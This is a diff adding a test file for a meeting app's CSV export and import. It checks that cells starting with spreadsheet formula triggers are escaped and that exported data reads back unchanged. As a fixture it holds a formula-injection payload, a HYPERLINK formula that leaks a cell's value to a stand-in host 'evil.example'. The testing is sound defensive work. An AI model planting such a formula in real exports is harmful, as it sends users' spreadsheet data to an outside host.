@@ -1,0 +1,288 @@
+/**
+ * Every CSV Gavel writes, pure: one cell writer that guards text a spreadsheet would run as a
+ * formula (OWASP's list: `=`, `+`, `-`, `@`, tab, carriage return) and leaves numbers alone; the
+ * record's and the programme's CSV written with it; and the programme importer reading back
+ * exactly what the exporter wrote.
+ */
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import type { CommandOf } from '../../shared/commands.ts';
+import {
+  csvCell,
+  csvRow,
+  csvTable,
+  unguardCsvCell,
+  type CsvDelimiter,
+  type CsvValue,
+} from '../../shared/csv.ts';
+import type { ProgrammeFile } from '../../shared/programme.ts';
+import { exportProgrammeCsv, importProgrammeCsv, parseCsv } from '../../shared/programmeCsv.ts';
+import { buildRecord, recordCsv } from '../../shared/record.ts';
+import { Driver, MINUTE, delegate } from './helpers.ts';
+
+const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';
+const DELIMITERS: readonly CsvDelimiter[] = [',', ';'];
+
+/** The cells of a CSV table by header name, one object per row (the header row left out). */
+function table(text: string, delimiter: CsvDelimiter = ','): Record<string, string>[] {
+  const [header, ...rows] = parseCsv(text, delimiter);
+  return rows.map((row) =>
+    Object.fromEntries((header?.cells ?? []).map((name, i) => [name, row.cells[i] ?? ''])),
+  );
+}
+
+describe('csvCell', () => {
+  it.each<[string, string, CsvDelimiter, string]>([
+    ['=', '=1+2', ',', "'=1+2"],
+    [
+      '=, with quotes and a comma',
+      HYPERLINK,
+      ',',
+      `"'=HYPERLINK(""http://evil.example/?leak=""&B2,""x"")"`,
+    ],
+    [
+      '=, with quotes and a comma, semicolon file',
+      HYPERLINK,
+      ';',
+      `"'=HYPERLINK(""http://evil.example/?leak=""&B2,""x"")"`,
+    ],
+    ['=, with the semicolon', '=SUM(A1;A2)', ';', `"'=SUM(A1;A2)"`],
+    ['+', '+1 extra', ',', "'+1 extra"],
+    ['-', '-based cooperation', ',', "'-based cooperation"],
+    ['- as the text of a negative number', '-5', ',', "'-5"],
+    ['@', '@SUM(A1:A9)', ';', "'@SUM(A1:A9)"],
+    ['tab', '\t=1+2', ',', "'\t=1+2"],
+    ['carriage return (quoted, as a line break must be)', '\r=1+2', ',', `"'\r=1+2"`],
+    ['a text that already begins with a quote before a trigger', "'=1+2", ',', "''=1+2"],
+    ['two quotes before a trigger', "''-x", ';', "'''-x"],
+  ])('guards a text that begins with %s', (_, text, delimiter, written) => {
+    expect(csvCell(text, delimiter)).toBe(written);
+  });
+
+  it.each<[string, string]>([
+    ['France', 'France'],
+    ['a=b+c-d@e', 'a=b+c-d@e'],
+    ["l'eau", "l'eau"],
+    ["'quoted'", "'quoted'"],
+    ['2016-11-17T09:00:00.000Z', '2016-11-17T09:00:00.000Z'],
+    ['', ''],
+  ])('leaves a text that does not begin with a trigger as it is: %j', (text, written) => {
+    for (const delimiter of DELIMITERS) expect(csvCell(text, delimiter)).toBe(written);
+  });
+
+  it.each<[number, string]>([
+    [-5, '-5'],
+    [-0.5, '-0.5'],
+    [0, '0'],
+    [240, '240'],
+    [2.5, '2.5'],
+  ])('writes the number %d as a number, unguarded', (value, written) => {
+    for (const delimiter of DELIMITERS) expect(csvCell(value, delimiter)).toBe(written);
+  });
+
+  it.each<[CsvValue, CsvDelimiter, string]>([
+    [null, ',', ''],
+    [undefined, ';', ''],
+    ['a,b', ',', '"a,b"'],
+    ['a,b', ';', 'a,b'],
+    ['a;b', ';', '"a;b"'],
+    ['a;b', ',', 'a;b'],
+    ['say "hi"', ',', '"say ""hi"""'],
+    ['two\nlines', ';', '"two\nlines"'],
+    ['two\r\nlines', ',', '"two\r\nlines"'],
+    ['-say "hi", twice', ',', `"'-say ""hi"", twice"`],
+  ])('quotes %j as CSV requires (delimiter %s)', (value, delimiter, written) => {
+    expect(csvCell(value, delimiter)).toBe(written);
+  });
+
+  it('writes rows and tables with the delimiter, each row ended by CRLF', () => {
+    expect(csvRow(['=x', -5, null, 'a;b'], ';')).toBe(`'=x;-5;;"a;b"`);
+    expect(
+      csvTable(
+        [
+          ['a', 'b'],
+          [1, '+1'],
+        ],
+        ',',
+      ),
+    ).toBe("a,b\r\n1,'+1\r\n");
+    expect(csvTable([], ',')).toBe('');
+  });
+
+  it('never lets a text cell begin with a trigger as a spreadsheet reads it, and reads back exactly', () => {
+    fc.assert(
+      fc.property(
+        fc.oneof(
+          fc.string(),
+          fc.string({
+            unit: fc.constantFrom(
+              "'",
+              '=',
+              '+',
+              '-',
+              '@',
+              '\t',
+              '\r',
+              '\n',
+              '"',
+              ',',
+              ';',
+              'a',
+              ' ',
+            ),
+          }),
+        ),
+        fc.constantFrom(...DELIMITERS),
+        (text, delimiter) => {
+          const rows = parseCsv(csvRow(['start', text, 'end'], delimiter), delimiter);
+          expect(rows).toHaveLength(1);
+          const cell = rows[0]?.cells[1] ?? '';
+          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+          expect(unguardCsvCell(cell)).toBe(text);
+        },
+      ),
+    );
+  });
+
+  it('writes every number as the number it is', () => {
+    fc.assert(
+      fc.property(fc.oneof(fc.integer(), fc.double({ noNaN: true })), (n) => {
+        expect(csvCell(n, ',')).toBe(String(n));
+      }),
+    );
+  });
+});
+
+describe("the record's CSV", () => {
+  it('guards a delegation, a speaker and a reason typed on a phone', () => {
+    const d = new Driver();
+    d.ok({ type: 'session.start' });
+    d.ok({ type: 'segment.end' });
+    d.ok({ type: 'floor.open' });
+    const request: CommandOf<'floor.request'> = {
+      type: 'floor.request',
+      delegation: HYPERLINK,
+      kind: 'statement',
+      speakerName: '@admin',
+      onBehalfOf: '+1 (555) 0100',
+    };
+    d.ok(request, delegate('device-evil'));
+    const first = d.lastRequestId();
+    d.ok(
+      { ...request, delegation: '-2+3', speakerName: 'Mr Dupont', onBehalfOf: undefined },
+      delegate('device-2'),
+    );
+    d.ok({ type: 'floor.decline', requestId: d.lastRequestId(), reason: '=1+1' });
+    d.ok({ type: 'floor.approve', requestId: first });
+    d.ok({ type: 'floor.give', requestId: first, start: true });
+    d.tick(2 * MINUTE).ok({ type: 'speaker.finish' });
+
+    const record = buildRecord(d.state, d.now);
+    const requests = recordCsv(record, 'requests');
+    expect(requests).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&B2,""x"")",`);
+    expect(
+      table(requests).map((r) => [r.delegation, r.speaker, r.on_behalf_of, r.reason, r.spoken_s]),
+    ).toEqual([
+      [`'${HYPERLINK}`, "'@admin", "'+1 (555) 0100", '', '120'],
+      ["'-2+3", 'Mr Dupont', '', "'=1+1", '0'],
+    ]);
+    const turns = table(recordCsv(record, 'turns'));
+    expect(turns.map((t) => [t.delegation, t.on_behalf_of, t.spoken_s])).toEqual([
+      [`'${HYPERLINK}`, "'+1 (555) 0100", '120'],
+    ]);
+  });
+});
+
+/** A programme whose texts begin with every trigger, and with a quote before one. */
+const TRICKY: ProgrammeFile = {
+  id: 'tricky',
+  title: 'Tricky',
+  timeZone: 'Europe/Amsterdam',
+  segments: [
+    {
+      id: 'panel',
+      kind: 'panel',
+      title: '=Panel',
+      budget: 20,
+      items: [
+        {
+          id: 'a',
+          kind: 'presentation',
+          speaker: { honorific: '@Dr', name: HYPERLINK, function: '-Chair', organisation: '+ICC' },
+          topic: '-based cooperation',
+          minutes: 10,
+          note: '+1 extra',
+        },
+        {
+          id: 'b',
+          kind: 'presentation',
+          speaker: { name: "'=already quoted" },
+          topic: "l'Assemblée; a, b",
+          minutes: '2:30',
+          warning: 1,
+          danger: '0:30',
+          note: '@mention "quoted"',
+        },
+      ],
+    },
+    { id: 'floor', kind: 'floor', title: '-Open floor', budget: 30 },
+  ],
+};
+
+describe("the programme's CSV", () => {
+  it.each(DELIMITERS)(
+    'guards the segment, speaker, topic and note cells (delimiter %s)',
+    (delimiter) => {
+      const rows = table(exportProgrammeCsv(TRICKY, delimiter), delimiter);
+      expect(
+        rows.map((r) => [
+          r.segment,
+          r.honorific,
+          r.name,
+          r.function,
+          r.organisation,
+          r.topic,
+          r.note,
+        ]),
+      ).toEqual([
+        [
+          "'=Panel",
+          "'@Dr",
+          `'${HYPERLINK}`,
+          "'-Chair",
+          "'+ICC",
+          "'-based cooperation",
+          "'+1 extra",
+        ],
+        ["'=Panel", '', "''=already quoted", '', '', "l'Assemblée; a, b", `'@mention "quoted"`],
+        ["'-Open floor", '', '', '', '', '', ''],
+      ]);
+      expect(rows.map((r) => [r['segment budget'], r.minutes, r.warning, r.danger])).toEqual([
+        ['20', '10', '', ''],
+        ['20', '2:30', '1', '0:30'],
+        ['30', '', '', ''],
+      ]);
+    },
+  );
+
+  it.each(DELIMITERS)('imports back exactly what it exported (delimiter %s)', (delimiter) => {
+    const csv = exportProgrammeCsv(TRICKY, delimiter);
+    const back = importProgrammeCsv(csv, {
+      id: TRICKY.id,
+      title: TRICKY.title,
+      timeZone: TRICKY.timeZone,
+    });
+    if (!back.ok) throw new Error(JSON.stringify(back.problems));
+    // The importer names segments after their titles; everything else comes back as it was.
+    const withoutIds = (file: ProgrammeFile) => file.segments.map(({ id: _, ...rest }) => rest);
+    expect(withoutIds(back.file)).toEqual(withoutIds(TRICKY));
+    expect(exportProgrammeCsv(back.file, delimiter)).toBe(csv);
+    const [panel] = back.programme.segments;
+    expect(
+      panel?.kind === 'panel' && panel.items.map((i) => [i.speaker.name, i.topic, i.note]),
+    ).toEqual([
+      [HYPERLINK, '-based cooperation', '+1 extra'],
+      ["'=already quoted", "l'Assemblée; a, b", '@mention "quoted"'],
+    ]);
+  });
+});
